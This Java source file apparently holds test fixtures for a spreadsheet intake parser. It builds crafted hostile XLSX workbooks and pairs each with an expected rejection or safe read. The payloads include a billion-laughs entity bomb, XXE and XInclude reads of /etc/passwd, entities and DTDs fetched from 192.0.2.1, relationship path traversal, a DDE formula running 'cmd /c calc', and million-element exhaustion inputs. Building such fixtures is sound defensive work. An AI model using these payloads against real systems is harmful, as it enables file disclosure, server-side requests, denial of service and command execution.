package org.entente.mechanisms.intake.format.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.entente.mechanisms.intake.format.hostile.Hostile.file;
import static org.entente.mechanisms.intake.format.hostile.Packing.noise;
import static org.entente.mechanisms.intake.format.hostile.Packing.row;
import static org.entente.mechanisms.intake.format.hostile.Packing.sheet;
import static org.entente.mechanisms.intake.format.hostile.Packing.utf8;
import static org.entente.mechanisms.intake.format.hostile.Packing.workbook;
import static org.entente.mechanisms.intake.format.hostile.Packing.workbookOf;
import static org.entente.mechanisms.intake.format.hostile.Packing.zip;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Workbooks of Excel 2007 and later whose parts were made by hand. */
final class HostileWorkbooks {

  private static final String ROW = row("Helping Hands", "Health", "Lowmarsh");
  private static final String LAUGHS =
      "<!DOCTYPE w [<!ENTITY a0 'ha'>"
          + IntStream.range(1, 12)
              .mapToObj(i -> "<!ENTITY a%d '%s'>".formatted(i, ("&a" + (i - 1) + ";").repeat(10)))
              .collect(Collectors.joining())
          + "]>";

  private HostileWorkbooks() {}

  static List<Hostile> all() {
    return List.of(
        file(
            "xlsx-of-a-billion-laughs",
            "Damaged",
            () -> withSheet(LAUGHS + sheet(row("&a11;", "b", "c")))),
        file("xlsx-that-asks-for-a-file", "Damaged", () -> withSheet(entity("file:///etc/passwd"))),
        file(
            "xlsx-that-asks-the-network", "Damaged", () -> withSheet(entity("http://192.0.2.1/x"))),
        file("xlsx-with-a-document-type-elsewhere", "Damaged", HostileWorkbooks::parameterEntity),
        file("xlsx-that-includes-a-file", "read 1", () -> workbookOf(including() + ROW)),
        file(
            "xlsx-with-a-style-sheet",
            "read 1",
            () -> withSheet("<?xml-stylesheet href='http://192.0.2.1/x'?>" + sheet(ROW))),
        file(
            "xlsx-nested-a-million-deep",
            "TooLarge PACKING_RATIO",
            () -> withSheet("<a>".repeat(1_000_000))),
        file(
            "xlsx-nested-deep-behind-noise",
            "Damaged",
            () -> withSheet("<!--" + noise(90_000) + "-->" + "<a>".repeat(1_000_000))),
        file(
            "xlsx-of-one-endless-tag",
            "Damaged",
            () ->
                withSheet("<!--" + noise(300_000) + "--><w a='" + "b".repeat(60_000_000) + "'/>")),
        file(
            "xlsx-of-one-endless-text",
            "Damaged",
            () ->
                workbookOf(
                    "<!--"
                        + noise(300_000)
                        + "--><row><c t='str'><v>"
                        + "b".repeat(60_000_000)
                        + "</v></c></row>")),
        file("xlsx-of-a-million-names", "Damaged", () -> workbookOf(ROW + strangeNames(300_000))),
        file("xlsx-of-endless-shared-texts", "TooLarge", HostileWorkbooks::sharedTexts),
        file(
            "xlsx-that-shares-no-text",
            "Damaged",
            () -> workbookOf("<row><c t='s'><v>7</v></c></row>")),
        file(
            "xlsx-that-shares-a-negative-text",
            "Damaged",
            () -> workbookOf("<row><c t='s'><v>-1</v></c></row>")),
        file(
            "xlsx-with-a-cell-far-out",
            "TooLarge COLUMNS",
            () -> workbookOf("<row><c r='ZZZZZZ2'><v>1</v></c></row>")),
        file(
            "xlsx-with-a-row-far-down",
            "TooLarge ROWS",
            () -> workbookOf(ROW.replace("<row>", "<row r='2147483647'>"))),
        file(
            "xlsx-with-a-row-beyond-numbers",
            "Damaged",
            () -> workbookOf(ROW.replace("<row>", "<row r='99999999999'>"))),
        file(
            "xlsx-of-wide-rows",
            "TooLarge CELLS",
            () ->
                workbookOf(
                    ("<row><c t='str'><v>A</v></c><c r='XFD1' t='str'><v>b</v></c></row>"
                            + "<!--"
                            + noise(40)
                            + "-->")
                        .repeat(12_000))),
        file("xlsx-of-a-million-merged-cells", "TooLarge MERGED_CELLS", HostileWorkbooks::merged),
        file("xlsx-of-a-million-styles", "read 1", HostileWorkbooks::styles),
        file(
            "xlsx-with-an-endless-number-format",
            "read 1",
            () ->
                withStyles(
                    "<numFmts><numFmt numFmtId='164' formatCode='"
                        + "[".repeat(5_000)
                        + "'/></numFmts>")),
        file("xlsx-of-50000-sheets-in-one", "TooLarge", HostileWorkbooks::oneSheetManyTimes),
        file(
            "xlsx-whose-sheet-lies-elsewhere", "NoTable", () -> pointing("../../../../etc/passwd")),
        file(
            "xlsx-whose-sheet-lies-in-the-network",
            "NoTable",
            () -> pointing("http://192.0.2.1/sheet1.xml")),
        file(
            "xlsx-without-relations", "Damaged", () -> zip("xl/workbook.xml", utf8("<workbook/>"))),
        file(
            "xlsx-with-macros",
            "read 1",
            () ->
                workbook(
                    Map.of(
                        "xl/vbaProject.bin",
                        "Sub Auto_Open()",
                        "xl/worksheets/sheet1.xml",
                        sheet(ROW)))),
        file(
            "xlsx-with-formulas-that-call",
            "read 1",
            () ->
                workbookOf(
                    "<row><c t='str'><f>cmd|'/c calc'!A0</f><v>=cmd|'/c calc'!A0</v></c><c"
                        + " t='str'><v>@SUM(1)</v></c><c t='str'><v>+1</v></c></row>")),
        file(
            "xlsx-with-links-to-other-books",
            "read 1",
            () ->
                workbook(
                    Map.of(
                        "xl/externalLinks/externalLink1.xml",
                        entity("file:///etc/passwd"),
                        "xl/worksheets/sheet1.xml",
                        sheet(ROW)))),
        file("xlsx-of-numbers-beyond-numbers", "read 4", HostileWorkbooks::numbers),
        file("xlsx-with-broken-letters", "Damaged", HostileWorkbooks::brokenLetters),
        file(
            "xlsx-with-hidden-control-letters",
            "read 1",
            () -> workbookOf(row("Hands_x0000__x0007__x202E_", "Health", "Low"))),
        file(
            "xlsx-in-an-unknown-encoding",
            "Damaged",
            () -> withSheet("<?xml version='1.0' encoding='EBCDIC-9'?>" + sheet(ROW))),
        file(
            "xlsb",
            "NotAKindWeRead BINARY_WORKBOOK",
            () -> zip("xl/workbook.bin", new byte[] {1, 2})),
        file(
            "xlsx-cut-off",
            "NotAKindWeRead DAMAGED_WORKBOOK",
            () -> HostileArchives.half(workbookOf(ROW))));
  }

  private static byte[] withSheet(String xml) throws IOException {
    return workbook(Map.of("xl/worksheets/sheet1.xml", xml));
  }

  private static String entity(String where) {
    return "<!DOCTYPE w [<!ENTITY x SYSTEM '" + where + "'>]>" + sheet(row("&x;", "b", "c"));
  }

  private static byte[] parameterEntity() throws IOException {
    return withSheet(
        "<!DOCTYPE w [<!ENTITY % x SYSTEM 'http://192.0.2.1/x.dtd'> %x;]>" + sheet(row("&y;")));
  }

  private static String including() {
    return "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'"
        + " parse='text'/>";
  }

  private static String strangeNames(int count) {
    return IntStream.range(0, count)
        .mapToObj(i -> "<n" + Integer.toString(i, 36) + "/>")
        .collect(Collectors.joining());
  }

  private static byte[] sharedTexts() throws IOException {
    var text = "<si><t>" + noise(200) + "</t></si>";
    return workbook(Map.of("xl/sharedStrings.xml", "<sst>" + text.repeat(250_000) + "</sst>"));
  }

  private static byte[] merged() throws IOException {
    var cells =
        IntStream.rangeClosed(1, 1_000_000)
            .mapToObj(row -> "<mergeCell ref='A" + row + ":B" + (row + 1) + "'/>")
            .collect(Collectors.joining());
    return withSheet(
        sheet(ROW)
            .replace(
                "</worksheet>",
                "<mergeCells><!--" + noise(300_000) + "-->" + cells + "</mergeCells></worksheet>"));
  }

  private static byte[] styles() throws IOException {
    return withStyles(
        "<!--" + noise(120_000) + "--><cellXfs>" + "<xf numFmtId='14'/>".repeat(1_000_000));
  }

  private static byte[] withStyles(String content) throws IOException {
    var end = content.contains("<cellXfs>") ? "</cellXfs>" : "";
    return workbook(
        Map.of(
            "xl/styles.xml",
            "<styleSheet>" + content + end + "</styleSheet>",
            "xl/worksheets/sheet1.xml",
            sheet(ROW)));
  }

  private static byte[] oneSheetManyTimes() throws IOException {
    return workbook(
        Map.of(
            "xl/workbook.xml",
            "<workbook xmlns:r='r'><sheets>"
                + "<sheet name='Data' r:id='a'/>".repeat(50_000)
                + "</sheets></workbook>",
            "xl/worksheets/sheet1.xml",
            sheet(ROW)));
  }

  private static byte[] pointing(String target) throws IOException {
    return workbook(
        Map.of(
            "xl/_rels/workbook.xml.rels",
            "<Relationships><Relationship Id='a' Type='t/worksheet' TargetMode='External' Target='"
                + target
                + "'/></Relationships>"));
  }

  private static byte[] numbers() throws IOException {
    var rows = new StringBuilder();
    for (var number : List.of("1e999999999", "-1e-999999999", "9".repeat(100_000), "NaN")) {
      rows.append("<row><c t='str'><v>Hands</v></c><c/><c t='str'><v>Low</v></c><c><v>")
          .append(number)
          .append("</v></c></row>");
    }
    return workbookOf(rows.toString());
  }

  private static byte[] brokenLetters() throws IOException {
    return zipWithSheet("<worksheet><sheetData><row><c t='str'><v>\u00FF\u00FE\u00C0</v>");
  }

  private static byte[] zipWithSheet(String latin) throws IOException {
    return zip(
        Map.of(
            "xl/workbook.xml",
            utf8("<workbook xmlns:r='r'><sheets><sheet name='D' r:id='a'/></sheets></workbook>"),
            "xl/_rels/workbook.xml.rels",
            utf8("<R><Relationship Id='a' Type='t/worksheet' Target='s.xml'/></R>"),
            "xl/s.xml",
            latin.getBytes(ISO_8859_1)));
  }
}
